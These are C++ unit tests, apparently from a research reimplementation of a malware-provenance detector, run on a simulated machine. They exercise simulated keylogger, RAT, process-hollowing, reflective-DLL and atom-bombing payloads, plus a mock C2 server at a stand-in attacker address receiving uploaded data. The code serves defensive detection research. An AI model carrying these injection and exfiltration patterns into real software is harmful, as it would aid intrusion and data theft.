  ImageBuilder wb("writer.exe", os::kUserImageBase);
  {
    auto& a = wb.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "data");
    a.movi(Reg::R2, 8);
    emit_sys(a, Sys::kNtAddAtom);
    a.mov(Reg::R1, Reg::R0);
    emit_sys(a, Sys::kNtExit);
    a.align(8);
    a.label("data");
    a.data_str("ATOMDATA", false);
  }
  m.kernel().vfs().create("C:/w.exe", wb.build().value().serialize());
  auto wpid = m.kernel().spawn("C:/w.exe");
  ASSERT_TRUE(wpid.ok());
  m.run(10000);
  u32 atom = m.kernel().find(wpid.value())->exit_code;
  EXPECT_GE(atom, 0xc000u);

  // Reader fetches it by id and prints it.
  ImageBuilder rb("reader.exe", os::kUserImageBase);
  {
    auto& a = rb.asm_();
    a.label("_start");
    a.movi(Reg::R1, atom);
    a.movi_label(Reg::R2, "buf");
    a.movi(Reg::R3, 64);
    emit_sys(a, Sys::kNtGetAtom);
    a.mov(Reg::R12, Reg::R0);
    a.movi_label(Reg::R1, "buf");
    a.mov(Reg::R2, Reg::R12);
    emit_sys(a, Sys::kNtDebugPrint);
    a.mov(Reg::R1, Reg::R12);
    emit_sys(a, Sys::kNtExit);
    a.align(8);
    a.label("buf");
    a.zeros(64);
  }
  m.kernel().vfs().create("C:/r.exe", rb.build().value().serialize());
  auto rpid = m.kernel().spawn("C:/r.exe");
  ASSERT_TRUE(rpid.ok());
  m.run(10000);
  EXPECT_EQ(m.kernel().find(rpid.value())->exit_code, 8u);
  ASSERT_FALSE(m.kernel().console().empty());
  EXPECT_EQ(m.kernel().console().back(), "reader.exe: ATOMDATA");
}

TEST(AtomTable, BadRequestsFail) {
  os::Machine m;
  ASSERT_TRUE(m.boot().ok());
  ImageBuilder ib("bad.exe", os::kUserImageBase);
  auto& a = ib.asm_();
  a.label("_start");
  // Get a nonexistent atom.
  a.movi(Reg::R1, 0x9999);
  a.movi_label(Reg::R2, "buf");
  a.movi(Reg::R3, 8);
  emit_sys(a, Sys::kNtGetAtom);
  a.mov(Reg::R11, Reg::R0);
  // Add with zero length.
  a.movi_label(Reg::R1, "buf");
  a.movi(Reg::R2, 0);
  emit_sys(a, Sys::kNtAddAtom);
  a.add(Reg::R1, Reg::R11, Reg::R0);
  emit_sys(a, Sys::kNtExit);
  a.align(8);
  a.label("buf");
  a.zeros(8);
  m.kernel().vfs().create("C:/bad.exe", ib.build().value().serialize());
  auto pid = m.kernel().spawn("C:/bad.exe");
  ASSERT_TRUE(pid.ok());
  m.run(10000);
  EXPECT_EQ(m.kernel().find(pid.value())->exit_code,
            2 * os::kNtError);
}

TEST(AtomBombing, FlaggedWithFullChainAndNoCrossProcessWrite) {
  attacks::AtomBombingScenario sc;
  auto run = attacks::analyze(sc);
  ASSERT_TRUE(run.ok()) << run.error().message;
  const auto& r = run.value();

  bool announced = false;
  for (const auto& line : r.replayed.console) {
    if (line.find("atom-bombed payload in winlogon.exe") !=
        std::string::npos) {
      announced = true;
    }
  }
  EXPECT_TRUE(announced);
  EXPECT_TRUE(r.recorded.traps.empty()) << r.recorded.traps[0];
  ASSERT_TRUE(r.flagged) << r.report;

  // Chain: C2 netflow -> atom_bomber.exe -> winlogon.exe, carried through
  // the atom table (no NtWriteVirtualMemory anywhere in the run).
  EXPECT_NE(r.report.find("NetFlow"), std::string::npos);
  EXPECT_NE(r.report.find("atom_bomber.exe"), std::string::npos) << r.report;
  EXPECT_NE(r.report.find("winlogon.exe"), std::string::npos) << r.report;
  bool netflow_policy = false;
  for (const auto& f : r.findings) {
    if (f.policy == "netflow-export-confluence") netflow_policy = true;
  }
  EXPECT_TRUE(netflow_policy);
}

}  // namespace
}  // namespace faros
