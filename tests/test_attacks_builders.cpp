// Attack-library builders: payload PIC property, program builders, C2
// scripting, dataset catalogues, and the exhaustion guard.
#include <gtest/gtest.h>

#include "attacks/datasets.h"
#include "attacks/payloads.h"
#include "attacks/programs.h"
#include "attacks/scenarios.h"
#include "core/provenance.h"
#include "vm/isa.h"

namespace faros::attacks {
namespace {

class PayloadBuild
    : public ::testing::TestWithParam<std::tuple<PayloadAction,
                                                 PayloadEnding, bool>> {};

TEST_P(PayloadBuild, AssemblesAndDecodes) {
  PayloadSpec spec;
  spec.action = std::get<0>(GetParam());
  spec.ending = std::get<1>(GetParam());
  spec.erase_self = std::get<2>(GetParam());
  auto blob = build_payload(spec);
  ASSERT_TRUE(blob.ok()) << blob.error().message;
  ASSERT_GE(blob.value().size(), vm::kInsnSize);
  // The entry instruction decodes.
  auto insn = vm::decode(ByteSpan(blob.value().data(), vm::kInsnSize));
  ASSERT_TRUE(insn.has_value());
}

INSTANTIATE_TEST_SUITE_P(
    AllShapes, PayloadBuild,
    ::testing::Combine(
        ::testing::Values(PayloadAction::kMessageBox,
                          PayloadAction::kKeylogger, PayloadAction::kCompute,
                          PayloadAction::kLinkedCompute),
        ::testing::Values(PayloadEnding::kExit, PayloadEnding::kRet,
                          PayloadEnding::kLoopForever),
        ::testing::Bool()));

TEST(Payload, IsPositionIndependent) {
  // The blob contains no absolute fixups: assembling the same program for
  // two different bases must produce identical bytes. build_payload
  // assembles at base 0; re-run it twice to confirm determinism, and check
  // no MOVI carries what looks like a base-relative pointer by executing
  // it at two addresses in the integration suite. Here: determinism.
  PayloadSpec spec;
  auto a = build_payload(spec);
  auto b = build_payload(spec);
  ASSERT_TRUE(a.ok() && b.ok());
  EXPECT_EQ(a.value(), b.value());
}

TEST(Programs, AllBuildersProduceValidImages) {
  EXPECT_TRUE(build_idle_program("x.exe").ok());
  EXPECT_TRUE(build_helper_program().ok());
  EXPECT_TRUE(build_inject_client(InjectClientSpec{}).ok());
  InjectClientSpec self;
  self.target_name.clear();
  EXPECT_TRUE(build_inject_client(self).ok());
  auto payload = build_payload(PayloadSpec{});
  ASSERT_TRUE(payload.ok());
  EXPECT_TRUE(build_hollow_loader(payload.value(), paths::kSvchost).ok());
  EXPECT_TRUE(build_rat_program(RatSpec{}).ok());
  EXPECT_TRUE(build_jit_host("java.exe").ok());
  // Behaviour programs for every single behaviour.
  for (Behavior b :
       {Behavior::kIdle, Behavior::kRun, Behavior::kAudioRecord,
        Behavior::kFileTransfer, Behavior::kKeylogger,
        Behavior::kRemoteDesktop, Behavior::kUpload, Behavior::kDownload,
        Behavior::kRemoteShell}) {
    auto img = build_behavior_program("t.exe", {b});
    EXPECT_TRUE(img.ok()) << behavior_name(b);
  }
}

TEST(Programs, ImagesRoundTripThroughSerialization) {
  auto img = build_rat_program(RatSpec{});
  ASSERT_TRUE(img.ok());
  auto back = os::Image::deserialize(img.value().serialize());
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back.value().blob, img.value().blob);
  EXPECT_EQ(back.value().entry_offset, img.value().entry_offset);
}

TEST(Datasets, Table3ShapeMatchesPaper) {
  auto workloads = table3_workloads();
  ASSERT_EQ(workloads.size(), 20u);
  int applets = 0, linking = 0, linking_applets = 0;
  for (const auto& w : workloads) {
    if (w.host == "java.exe") ++applets;
    if (w.linking) {
      ++linking;
      if (w.host == "java.exe") ++linking_applets;
    }
  }
  EXPECT_EQ(applets, 10);
  EXPECT_EQ(linking, 2);          // the two paper FPs
  EXPECT_EQ(linking_applets, 2);  // both are applets
}

TEST(Datasets, Table4ShapeMatchesPaper) {
  EXPECT_EQ(table4_families().size(), 17u);   // Table IV rows
  EXPECT_EQ(table4_benign().size(), 14u);     // benign block
  auto battery = table4_full_battery();
  EXPECT_EQ(battery.size(), 90u);             // expanded samples
  // All samples have at least one behaviour and unique names.
  std::set<std::string> names;
  for (const auto& s : battery) {
    EXPECT_FALSE(s.behaviors.empty()) << s.name;
    EXPECT_TRUE(names.insert(s.name).second) << "duplicate " << s.name;
  }
  EXPECT_EQ(table5_apps().size(), 6u);        // Table V rows
}

TEST(C2Server, RespondsOncePerRequestInOrder) {
  os::Machine m;
  ASSERT_TRUE(m.boot().ok());
  C2Server c2;
  c2.queue_response(Bytes{1});
  c2.queue_response(Bytes{2});

  // A guest socket sends twice to the attacker endpoint.
  auto& kernel = m.kernel();
  os::SocketId sid = kernel.net().create(1);
  ASSERT_TRUE(kernel.net().connect(sid, kAttackerIp, kAttackerPort).ok());
  (void)kernel.net().send(sid, Bytes{'a'}, 1);
  c2.poll(m);
  EXPECT_EQ(c2.requests_seen(), 1u);
  EXPECT_EQ(c2.responses_sent(), 1u);
  (void)kernel.net().send(sid, Bytes{'b'}, 2);
  (void)kernel.net().send(sid, Bytes{'c'}, 3);  // no response left for this
  c2.poll(m);
  EXPECT_EQ(c2.requests_seen(), 3u);
  EXPECT_EQ(c2.responses_sent(), 2u);
  ASSERT_EQ(c2.received().size(), 3u);
  EXPECT_EQ(c2.received()[0], (Bytes{'a'}));

  // Both responses are queued on the socket in order.
  Bytes buf(4);
  FlowTuple flow;
  auto n = kernel.net().read_rx(sid, buf, &flow);
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(buf[0], 1);
  EXPECT_EQ(flow.src_ip, kAttackerIp);
  n = kernel.net().read_rx(sid, buf, &flow);
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(buf[0], 2);
}

TEST(C2Server, IgnoresTrafficToOtherEndpoints) {
  os::Machine m;
  ASSERT_TRUE(m.boot().ok());
  C2Server c2;
  c2.queue_response(Bytes{1});
  os::SocketId sid = m.kernel().net().create(1);
  ASSERT_TRUE(m.kernel().net().connect(sid, 0x08080808, 53).ok());
  (void)m.kernel().net().send(sid, Bytes{'x'}, 1);
  c2.poll(m);
  EXPECT_EQ(c2.requests_seen(), 0u);
  EXPECT_EQ(c2.responses_sent(), 0u);
}

TEST(ProvStore, ExhaustionGuardDegradesGracefully) {
  core::ProvStore store(/*cap=*/64, /*max_lists=*/8);
  core::ProvListId id = store.intern({core::ProvTag::netflow(0)});
  // Manufacture far more unique lists than the bound allows.
  core::ProvListId last = id;
  for (u16 i = 1; i < 100; ++i) {
    last = store.append(id, core::ProvTag::process(i));
  }
  EXPECT_LE(store.size(), 8u);
  EXPECT_GT(store.saturated_ops(), 0u);
  // Saturated appends fall back to the base list — never a bogus id.
  EXPECT_EQ(last, id);
  // Existing lists still work.
  EXPECT_TRUE(store.contains_type(id, core::TagType::kNetflow));
}

TEST(Scenarios, NamesAreStable) {
  EXPECT_EQ(ReflectiveDllScenario(ReflectiveVariant::kMeterpreter).name(),
            "reflective_dll_inject");
  EXPECT_EQ(ReflectiveDllScenario(ReflectiveVariant::kReverseTcpDns).name(),
            "reverse_tcp_dns");
  EXPECT_EQ(ReflectiveDllScenario(ReflectiveVariant::kBypassUac).name(),
            "bypassuac_injection");
  EXPECT_EQ(HollowingScenario().name(), "process_hollowing");
  EXPECT_EQ(RatInjectionScenario("njrat").name(), "njrat-injection");
  EXPECT_EQ(DropperChainScenario().name(), "dropper_chain");
}

}  // namespace
}  // namespace faros::attacks
