// CuckooBox + malfind baseline: traces collected, resident injections found
// by malfind, transient injections missed (the paper's Section VI-B), and
// never any provenance.
#include <gtest/gtest.h>

#include "attacks/scenarios.h"
#include "baselines/cuckoo.h"
#include "baselines/report.h"

namespace faros::baselines {
namespace {

/// Runs a scenario live with the Cuckoo monitor attached (like the real
/// sandbox), then takes the end-of-run memory dump.
struct SandboxedRun {
  CuckooSandboxSim cuckoo;
  MemoryDump dump;
  os::RunStats stats;
};

void sandbox(attacks::Scenario& sc, SandboxedRun& out) {
  os::Machine m;
  m.add_monitor(&out.cuckoo);
  auto r = m.boot();
  ASSERT_TRUE(r.ok()) << r.error().message;
  auto source = sc.make_source();
  if (source) m.set_event_source(source.get());
  r = sc.setup(m);
  ASSERT_TRUE(r.ok()) << r.error().message;
  out.stats = m.run(sc.budget());
  out.dump = CuckooSandboxSim::take_memory_dump(m.kernel());
}

TEST(Cuckoo, CollectsSyscallFileAndNetworkTraces) {
  attacks::BehaviorScenario sc("trace-sample.exe",
                               {attacks::Behavior::kUpload,
                                attacks::Behavior::kDownload});
  SandboxedRun run;
  sandbox(sc, run);

  EXPECT_FALSE(run.cuckoo.syscalls().empty());
  bool saw_send = false, saw_recv = false;
  for (const auto& s : run.cuckoo.syscalls()) {
    if (s.name == std::string("NtSend")) saw_send = true;
    if (s.name == std::string("NtRecv")) saw_recv = true;
  }
  EXPECT_TRUE(saw_send);
  EXPECT_TRUE(saw_recv);

  bool read_secret = false, wrote_download = false;
  for (const auto& f : run.cuckoo.files()) {
    if (f.op == "read" && f.path == attacks::paths::kSecretDoc) {
      read_secret = true;
    }
    if (f.op == "write" && f.path == "C:/Temp/download.bin") {
      wrote_download = true;
    }
  }
  EXPECT_TRUE(read_secret);
  EXPECT_TRUE(wrote_download);

  bool outbound = false, inbound = false;
  for (const auto& n : run.cuckoo.netflows()) {
    outbound |= n.outbound;
    inbound |= !n.outbound;
  }
  EXPECT_TRUE(outbound);
  EXPECT_TRUE(inbound);
  EXPECT_EQ(run.cuckoo.registered_dlls().size(), 3u);  // ntdll, user32, kernel32
}

TEST(Cuckoo, BehavioralVerdictMissesInMemoryInjection) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter);
  SandboxedRun run;
  sandbox(sc, run);
  // The injection happened (payload printed from the victim), yet no DLL
  // registration, no dropped executable: event-based detection is blind.
  EXPECT_FALSE(run.cuckoo.behavioral_verdict());
}

TEST(Malfind, FindsResidentInjectedRegion) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter,
                                    /*transient=*/false);
  SandboxedRun run;
  sandbox(sc, run);
  auto hits = malfind(run.dump);
  ASSERT_FALSE(hits.empty());
  bool in_victim = false;
  for (const auto& h : hits) {
    if (h.proc == "notepad.exe") in_victim = true;
  }
  EXPECT_TRUE(in_victim);
}

TEST(Malfind, MissesTransientInjection) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter,
                                    /*transient=*/true);
  SandboxedRun run;
  sandbox(sc, run);
  // The payload wiped itself before the dump: nothing left to find in the
  // victim. (The wipe loop itself survives but is below any useful
  // threshold of the original payload body.)
  auto hits = malfind(run.dump, /*min_live_bytes=*/128);
  for (const auto& h : hits) {
    EXPECT_NE(h.proc, "notepad.exe")
        << "transient payload should be invisible, found " << h.live_bytes
        << " live bytes";
  }
}

TEST(Malfind, CleanProcessHasNoHits) {
  attacks::BehaviorScenario sc("clean.exe", {attacks::Behavior::kIdle});
  SandboxedRun run;
  sandbox(sc, run);
  EXPECT_TRUE(malfind(run.dump).empty());
}

TEST(Volatility, PslistAndVadinfo) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter);
  SandboxedRun run;
  sandbox(sc, run);
  auto procs = pslist(run.dump);
  ASSERT_GE(procs.size(), 2u);
  bool saw_victim = false;
  u32 victim_pid = 0;
  for (const auto& pd : run.dump.processes) {
    if (pd.proc.name == "notepad.exe") {
      saw_victim = true;
      victim_pid = pd.proc.pid;
    }
  }
  ASSERT_TRUE(saw_victim);
  auto regions = vadinfo(run.dump, victim_pid);
  // image + stack + the injected RWX allocation.
  ASSERT_GE(regions.size(), 3u);
  bool has_private_exec = false;
  for (const auto& r : regions) {
    if (r.kind == os::Region::Kind::kAlloc && (r.prot & os::kProtExec)) {
      has_private_exec = true;
    }
  }
  EXPECT_TRUE(has_private_exec);
}

TEST(Cuckoo, HollowingLeavesChildProcessEvidenceOnlyInDump) {
  attacks::HollowingScenario sc;
  SandboxedRun run;
  sandbox(sc, run);
  EXPECT_FALSE(run.cuckoo.behavioral_verdict());
  // malfind does see the resident keylogger region inside svchost...
  auto hits = malfind(run.dump);
  bool in_svchost = false;
  for (const auto& h : hits) {
    if (h.proc == "svchost.exe") in_svchost = true;
  }
  EXPECT_TRUE(in_svchost);
  // ...but has no idea where the payload came from (no provenance). The
  // hit structure simply has nothing beyond addresses — asserted here by
  // construction.
  SUCCEED();
}


TEST(SandboxReport, NetscanDlllistHistogramAndFullReport) {
  attacks::ReflectiveDllScenario sc(attacks::ReflectiveVariant::kMeterpreter);
  SandboxedRun run;
  sandbox(sc, run);

  auto conns = netscan(run.cuckoo);
  ASSERT_FALSE(conns.empty());
  bool c2_conn = false;
  for (const auto& line : conns) {
    if (line.find("169.254.26.161:4444") != std::string::npos) c2_conn = true;
  }
  EXPECT_TRUE(c2_conn);

  EXPECT_EQ(dlllist(run.cuckoo).size(), 3u);

  auto hist = syscall_histogram(run.cuckoo);
  ASSERT_FALSE(hist.empty());
  // Sorted descending.
  for (size_t i = 1; i < hist.size(); ++i) {
    EXPECT_GE(hist[i - 1].second, hist[i].second);
  }

  std::string report = render_sandbox_report(run.cuckoo, run.dump);
  EXPECT_NE(report.find("[processes]"), std::string::npos);
  EXPECT_NE(report.find("[network]"), std::string::npos);
  EXPECT_NE(report.find("malfind"), std::string::npos);
  EXPECT_NE(report.find("origin UNKNOWN"), std::string::npos)
      << "the baseline report must expose that malfind has no provenance";
  EXPECT_NE(report.find("no injection artifact observed"),
            std::string::npos);
}

}  // namespace
}  // namespace faros::baselines
