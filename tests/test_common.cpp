// Common utilities: strings, hashing, RNG determinism, byte IO, flow
// rendering, logging sink.
#include <gtest/gtest.h>

#include "common/bytesio.h"
#include "common/flow.h"
#include "common/hash.h"
#include "common/log.h"
#include "common/rng.h"
#include "common/strings.h"

namespace faros {
namespace {

TEST(Strings, Strf) {
  EXPECT_EQ(strf("x=%d y=%s", 42, "hi"), "x=42 y=hi");
  EXPECT_EQ(strf("%s", ""), "");
}

TEST(Strings, Hex) {
  EXPECT_EQ(hex32(0x83b07019), "0x83b07019");
  EXPECT_EQ(hex32(0), "0x00000000");
  EXPECT_EQ(hex64(0x1234), "0x1234");
}

TEST(Strings, Ipv4RoundTrip) {
  EXPECT_EQ(ipv4_to_string(0xa9fe1aa1), "169.254.26.161");
  EXPECT_EQ(parse_ipv4("169.254.26.161"), 0xa9fe1aa1u);
  EXPECT_EQ(parse_ipv4("0.0.0.0"), 0u);
  EXPECT_EQ(parse_ipv4("garbage"), 0u);
  EXPECT_EQ(parse_ipv4("300.1.1.1"), 0u);
}

TEST(Strings, SplitJoin) {
  auto parts = split("a,b,,c", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[2], "");
  EXPECT_EQ(join(parts, "/"), "a/b//c");
  EXPECT_EQ(split("", ',').size(), 1u);
}

TEST(Strings, StartsEndsWith) {
  EXPECT_TRUE(starts_with("C:/Temp/x.exe", "C:/"));
  EXPECT_FALSE(starts_with("x", "xy"));
  EXPECT_TRUE(ends_with("payload.dll", ".dll"));
  EXPECT_FALSE(ends_with(".dll", "x.dll"));
}

TEST(Strings, Hexdump) {
  Bytes data{'H', 'i', 0x00, 0xff};
  std::string dump = hexdump(data, 0x1000);
  EXPECT_NE(dump.find("00001000"), std::string::npos);
  EXPECT_NE(dump.find("48 69 00 ff"), std::string::npos);
  EXPECT_NE(dump.find("|Hi..|"), std::string::npos);
}

TEST(Hash, Fnv1aKnownValuesAndStability) {
  // FNV-1a of the empty input is the offset basis.
  EXPECT_EQ(fnv1a32(std::string_view("")), 0x811c9dc5u);
  EXPECT_EQ(fnv1a32(std::string_view("a")), 0xe40c292cu);
  // String and byte-span forms agree.
  Bytes bytes{'n', 't', 'd', 'l', 'l'};
  EXPECT_EQ(fnv1a32(std::string_view("ntdll")), fnv1a32(ByteSpan(bytes)));
  // Distinct module names used by the loader hash distinctly.
  EXPECT_NE(fnv1a32(std::string_view("ntdll.dll")),
            fnv1a32(std::string_view("user32.dll")));
}

TEST(Hash, Combine) {
  EXPECT_NE(hash_combine(1, 2), hash_combine(2, 1));
  EXPECT_NE(hash_combine(0, 0), 0u);
}

TEST(Rng, DeterministicAcrossInstances) {
  Rng a(12345), b(12345);
  for (int i = 0; i < 100; ++i) {
    ASSERT_EQ(a.next_u64(), b.next_u64());
  }
  Rng c(54321);
  EXPECT_NE(a.next_u64(), c.next_u64());
}

TEST(Rng, BoundsRespected) {
  Rng rng(7);
  for (int i = 0; i < 1000; ++i) {
    EXPECT_LT(rng.below(10), 10u);
    u64 v = rng.range(5, 8);
    EXPECT_GE(v, 5u);
    EXPECT_LE(v, 8u);
  }
  EXPECT_EQ(rng.below(0), 0u);
  EXPECT_EQ(rng.bytes(16).size(), 16u);
}

TEST(ByteIo, RoundTripAllWidths) {
  ByteWriter w;
  w.put_u8(0xab);
  w.put_u16(0x1234);
  w.put_u32(0xdeadbeef);
  w.put_u64(0x0102030405060708ull);
  w.put_str("hello");
  w.put_blob(Bytes{9, 8, 7});
  Bytes wire = w.take();

  ByteReader r(wire);
  EXPECT_EQ(r.get_u8(), 0xabu);
  EXPECT_EQ(r.get_u16(), 0x1234u);
  EXPECT_EQ(r.get_u32(), 0xdeadbeefu);
  EXPECT_EQ(r.get_u64(), 0x0102030405060708ull);
  EXPECT_EQ(r.get_str(), "hello");
  EXPECT_EQ(r.get_blob(), (Bytes{9, 8, 7}));
  EXPECT_TRUE(r.ok());
  EXPECT_EQ(r.remaining(), 0u);
}

TEST(ByteIo, TruncationSetsNotOk) {
  ByteWriter w;
  w.put_u16(7);
  ByteReader r(w.bytes());
  r.get_u32();  // wants 4, has 2
  EXPECT_FALSE(r.ok());
  // Blob length larger than remaining data.
  ByteWriter w2;
  w2.put_u32(100);
  ByteReader r2(w2.bytes());
  EXPECT_TRUE(r2.get_blob().empty());
  EXPECT_FALSE(r2.ok());
}

TEST(Flow, PaperStyleRendering) {
  FlowTuple f{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162};
  EXPECT_EQ(f.to_string(),
            "{src ip,port: 169.254.26.161:4444, "
            "dest ip,port: 169.254.57.168:49162}");
}

TEST(Log, SinkCapturesAndLevelFilters) {
  std::vector<std::string> captured;
  auto prev = Log::set_sink(
      [&](LogLevel, const std::string& msg) { captured.push_back(msg); });
  LogLevel prev_level = Log::level();
  Log::set_level(LogLevel::kWarn);

  FAROS_DEBUG() << "hidden";
  FAROS_WARN() << "visible " << 42;
  ASSERT_EQ(captured.size(), 1u);
  EXPECT_EQ(captured[0], "visible 42");

  Log::set_level(prev_level);
  Log::set_sink(prev);
}

}  // namespace
}  // namespace faros
