// FarosEngine unit tests: Table-I propagation rules at byte granularity,
// tag insertion, indirect-flow policy (Figures 1 and 2), tag confluence
// policies, whitelisting, hygiene, and a differential taint-soundness
// property test against an independent boolean-taint reference.
#include <gtest/gtest.h>

#include "attacks/guest_common.h"
#include "common/rng.h"
#include "core/engine.h"
#include "os/machine.h"
#include "os/runtime.h"

namespace faros::core {
namespace {

using attacks::emit_sys;
using os::ImageBuilder;
using os::kUserImageBase;
using os::Sys;
using vm::Assembler;
using vm::Reg;

constexpr FlowTuple kFlow{0xa9fe1aa1, 4444, 0xa9fe39a8, 49162};

class EngineTest : public ::testing::Test {
 protected:
  void init(Options opts) {
    // Most propagation tests want a quiet baseline: no image tainting.
    machine_ = std::make_unique<os::Machine>();
    engine_ = std::make_unique<FarosEngine>(machine_->kernel(), opts);
    machine_->attach_cpu_plugin(engine_.get());
    machine_->add_monitor(engine_.get());
    auto r = machine_->boot();
    ASSERT_TRUE(r.ok()) << r.error().message;
  }

  static Options quiet_options() {
    Options opts;
    opts.taint_mapped_images = false;
    return opts;
  }

  /// Installs + spawns `name` suspended so taint can be placed first.
  /// Fills src_ with the address of the "src" label when present.
  os::Pid spawn_suspended(const std::string& name,
                          const std::function<void(ImageBuilder&)>& build) {
    ImageBuilder ib(name, kUserImageBase);
    build(ib);
    auto img = ib.build();
    EXPECT_TRUE(img.ok()) << (img.ok() ? "" : img.error().message);
    auto src_off = ib.asm_().label_offset("src");
    src_ = src_off.ok() ? kUserImageBase + src_off.value() : 0;
    std::string path = "C:/test/" + name;
    machine_->kernel().vfs().create(path, img.value().serialize());
    auto pid = machine_->kernel().spawn(path, /*suspended=*/true);
    EXPECT_TRUE(pid.ok());
    return pid.ok() ? pid.value() : 0;
  }

  VAddr src_ = 0;  // address of the "src" label in the last spawned image

  /// Marks guest bytes as network-derived (as an NtRecv would).
  void taint_packet(os::Process& p, VAddr va, u32 len) {
    osi::GuestXfer xfer{p.info(), &p.as, va, len};
    engine_->on_packet_to_guest(xfer, kFlow);
  }

  void resume_and_run(os::Pid pid, u64 budget = 60000) {
    os::Process* p = machine_->kernel().find(pid);
    ASSERT_NE(p, nullptr);
    p->state = os::ProcState::kReady;
    machine_->run(budget);
    EXPECT_TRUE(machine_->kernel().trap_log().empty())
        << machine_->kernel().trap_log()[0];
  }

  ProvListId prov(os::Pid pid, VAddr va) {
    os::Process* p = machine_->kernel().find(pid);
    return engine_->prov_at(p->as, va);
  }

  std::unique_ptr<os::Machine> machine_;
  std::unique_ptr<FarosEngine> engine_;
};

// Keeps the process alive (so its address space stays inspectable) once
// the interesting work is done.
void end_spin(Assembler& a) {
  a.label("end_spin");
  emit_sys(a, Sys::kNtYield);
  a.jmp("end_spin");
}

// Common program scaffold: buffer labels "src" (tainted input) and "dst".
void scaffold_data(Assembler& a) {
  a.align(8);
  a.label("src");
  a.zeros(64);
  a.label("dst");
  a.zeros(64);
}

TEST_F(EngineTest, CopyPropagationThroughLoadStore) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("copy.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R2, Reg::R1, 0);
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R2);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  VAddr dst = src + 64;
  taint_packet(*p, src, 4);
  resume_and_run(pid);

  ProvListId id = prov(pid, dst);
  ASSERT_NE(id, kEmptyProv);
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kNetflow));
  EXPECT_TRUE(engine_->store().contains_type(id, TagType::kProcess));
  // Chronology: netflow first, then the process.
  const auto& tags = engine_->store().get(id);
  EXPECT_EQ(tags[0].type(), TagType::kNetflow);
}

TEST_F(EngineTest, MoviConstantDeletesTaint) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("movi.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R2, Reg::R1, 0);   // r2 tainted
    a.movi(Reg::R2, 7);            // delete rule
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R2);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 4);
  resume_and_run(pid);
  EXPECT_EQ(prov(pid, src + 64), kEmptyProv);
}

TEST_F(EngineTest, ArithmeticUnionsOperandTaint) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("union.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R2, Reg::R1, 0);   // netflow A (bytes 0..3)
    a.ld32(Reg::R3, Reg::R1, 8);   // netflow B (bytes 8..11)
    a.add(Reg::R4, Reg::R2, Reg::R3);
    a.movi_label(Reg::R5, "dst");
    a.st32(Reg::R5, 0, Reg::R4);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  // Two different flows -> two different netflow tags.
  osi::GuestXfer x1{p->info(), &p->as, src, 4};
  engine_->on_packet_to_guest(x1, kFlow);
  FlowTuple other{0x01020304, 53, 0xa9fe39a8, 49200};
  osi::GuestXfer x2{p->info(), &p->as, src + 8, 4};
  engine_->on_packet_to_guest(x2, other);
  resume_and_run(pid);

  ProvListId id = prov(pid, src + 64);
  const auto& tags = engine_->store().get(id);
  int netflows = 0;
  for (const auto& t : tags) {
    if (t.type() == TagType::kNetflow) ++netflows;
  }
  EXPECT_EQ(netflows, 2);  // union rule combined both flows
}

TEST_F(EngineTest, XorZeroIdiomDeletes) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("xor.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld32(Reg::R2, Reg::R1, 0);
    a.xor_(Reg::R2, Reg::R2, Reg::R2);  // zero idiom
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R2);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src, 4);
  resume_and_run(pid);
  EXPECT_EQ(prov(pid, src + 64), kEmptyProv);
}

TEST_F(EngineTest, ByteGranularTaintThroughLd8) {
  init(quiet_options());
  os::Pid pid = spawn_suspended("byte.exe", [](ImageBuilder& ib) {
    auto& a = ib.asm_();
    a.label("_start");
    a.movi_label(Reg::R1, "src");
    a.ld8(Reg::R2, Reg::R1, 1);    // only src[1] is tainted below
    a.movi_label(Reg::R3, "dst");
    a.st32(Reg::R3, 0, Reg::R2);   // stores 4 bytes; only byte 0 tainted
    a.st8(Reg::R3, 8, Reg::R2);
    end_spin(a);
    scaffold_data(a);
  });
  os::Process* p = machine_->kernel().find(pid);
  VAddr src = src_;
  taint_packet(*p, src + 1, 1);
  resume_and_run(pid);
  VAddr dst = src + 64;
  EXPECT_NE(prov(pid, dst + 0), kEmptyProv);   // low byte carries taint
  EXPECT_EQ(prov(pid, dst + 1), kEmptyProv);   // upper bytes are zero-ext
  EXPECT_EQ(prov(pid, dst + 2), kEmptyProv);
  EXPECT_EQ(prov(pid, dst + 3), kEmptyProv);
  EXPECT_NE(prov(pid, dst + 8), kEmptyProv);
}

// Figure 1 of the paper: address dependency through a lookup table.
void lookup_table_program(ImageBuilder& ib) {
  auto& a = ib.asm_();
  a.label("_start");
